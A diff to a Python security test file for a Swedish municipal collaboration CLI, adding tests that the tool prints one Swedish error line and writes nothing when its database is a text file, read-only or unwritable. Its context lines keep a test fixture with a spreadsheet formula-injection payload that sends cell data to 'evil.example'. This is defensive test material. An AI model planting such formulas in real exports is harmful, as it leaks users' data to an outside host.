@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import csv
 import io
+import os
 import re
 from pathlib import Path
 from typing import Any
@@ -23,13 +24,15 @@ from engine import db
 from engine.agreement import Agreement
 from engine.api import commands
 from engine.clock import FixedClock
-from engine.models import AreaRow, Commitment, FollowUp
+from engine.models import AreaRow, Commitment, FollowUp, OutboxRow
 from engine.plan import load_plan
 from notifications.report import csv_cell
 from rules.errors import InvalidValue
 from rules.hours import MAX_HOURS
 from tests.security.conftest import Cli, Live
 
+ROOT = Path(__file__).resolve().parents[2]
+BORAS = ROOT / "config" / "boras-2015.yaml"
 MBU = "boras.mbu.kommun"
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?d="&A1,"klicka")',
@@ -313,3 +316,65 @@ def test_a_report_whose_last_step_fails_leaves_no_tmp_file_holding_it(live: Live
     assert err.startswith(f"samverkan: fel: --out: {out}: kan inte skrivas"), err
     assert not (tmp_path / "rapport.tmp").exists()
     assert [p.name for p in out.iterdir()] == ["annat"]
+
+
+# -- 4. one line instead of a traceback: the database -----------------------------------------
+
+
+def test_a_db_that_is_a_text_file_is_one_swedish_line_and_stays_as_it_was(cli: Cli, tmp_path: Path) -> None:
+    notes = tmp_path / "anteckningar.txt"
+    notes.write_text("inte en databas\n", encoding="utf-8")
+    for argv in (["status"], ["init", "--config", str(BORAS)], ["tick"], ["history", "mbu.kommun"]):
+        code, _, err = cli(argv[0], "--db", f"sqlite:///{notes}", *argv[1:])
+        assert (code, err.count("\n")) == (2, 1), (argv, err)
+        assert "filen är ingen SQLite-databas" in err, err
+    assert notes.read_text(encoding="utf-8") == "inte en databas\n"
+
+
+def read_only(engine: Engine) -> str:
+    """The same database, opened so that every write is refused (as root too, unlike a file mode)."""
+    url = engine.url
+    if url.get_backend_name() == "sqlite":
+        return f"sqlite:///file:{url.database}?mode=ro&uri=true"
+    options = url.query["options"]
+    return url.update_query_dict({"options": f"{options} -cdefault_transaction_read_only=on"}).render_as_string(
+        hide_password=False
+    )
+
+
+def test_every_write_to_a_read_only_database_is_one_swedish_line_and_writes_nothing(
+    live: Live, cli: Cli, tmp_path: Path
+) -> None:
+    url = read_only(live.engine)
+    before = states(live.engine), follow_ups(live.engine), outbox(live.engine)
+    cli.clock = live.clock
+    writes = (
+        ["transition", "--db", url, "mbu.kommun", "end", "--by", "x", "--why", "y"],
+        ["followup", "--db", url, "mbu.kommun", "--period=2026", "--value=utbildningar=2", "--comment=x", "--by=y"],
+        ["tick", "--db", url, "--now", "2027-04-20T09:00"],
+        ["deliver", "--db", url, "--now", "2027-03-01T09:00"],
+        ["notify-change", "--db", url, "--party", "polis", "--text", "Ny chef", "--by", "P"],
+    )
+    for argv in writes:
+        code, _, err = cli(*argv)
+        assert (code, err.count("\n")) == (2, 1), (argv, err)
+        assert "inget ändrades" in err, err
+    assert (states(live.engine), follow_ups(live.engine), outbox(live.engine)) == before
+    # Reading still works.
+    code, _, err = cli("report", "--db", url, "--period", "2026", "--out", str(tmp_path / "r.html"))
+    assert code == 0, err
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root writes a file whatever its mode; ?mode=ro covers root")
+def test_a_database_file_without_write_permission_is_one_swedish_line(cli: Cli, tmp_path: Path) -> None:
+    path = tmp_path / "samverkan.db"
+    url = f"sqlite:///{path}"
+    assert cli("init", "--db", url, "--config", str(BORAS))[0] == 0
+    path.chmod(0o444)
+    code, _, err = cli("transition", "--db", url, "mbu.kommun", "start", "--by", "x", "--why", "y")
+    assert (code, err.count("\n")) == (2, 1) and "skrivskyddad" in err, err
+
+
+def outbox(engine: Engine) -> list[tuple[int, str, int]]:
+    with db.transaction(engine) as s:
+        return sorted((r.id, r.state, r.attempts) for r in s.scalars(select(OutboxRow)))
